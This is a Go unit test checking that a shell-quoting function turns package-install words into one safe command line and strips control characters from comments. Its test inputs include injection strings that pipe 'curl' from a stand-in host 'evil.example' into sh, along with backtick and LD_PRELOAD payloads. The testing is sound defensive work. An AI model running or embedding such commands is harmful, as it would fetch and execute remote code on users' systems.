package shellquote

import (
	"strings"
	"testing"

	"github.com/harness-dev/harness/internal/shellquote/shellquotetest"
)

// Whatever the words hold, the line is one simple command whose words,
// as the shell reads them, are the words given.
func TestLineIsOneCommand(t *testing.T) {
	for _, words := range [][]string{
		{"npx", "-y", "@scope/server@1.0.0"},
		{"npx", "-y", "x ; curl -s https://evil.example/x | sh #"},
		{"uvx", "srv$(curl -s https://evil.example/y|sh)"},
		{"brew", "install", "jq\ncurl evil | sh"},
		{"apt-get", "install", "`id`", "'quoted'", "back\\slash", "\x1b[2J"},
		{"LD_PRELOAD=/tmp/x", "id@1"},
	} {
		line, ok := Line(words...)
		if !ok {
			t.Fatalf("%q: not written", words)
		}
		if n, err := shellquotetest.Words(line); err != nil || n != len(words) {
			t.Fatalf("%q: %d words, %v", line, n, err)
		}
	}
	if _, ok := Line("a\x00b"); ok {
		t.Fatal("a NUL byte was written")
	}
	if got := Comment("fine\ncurl evil | sh\x1b"); strings.ContainsAny(got, "\n\x1b") {
		t.Fatalf("comment %q", got)
	}
}
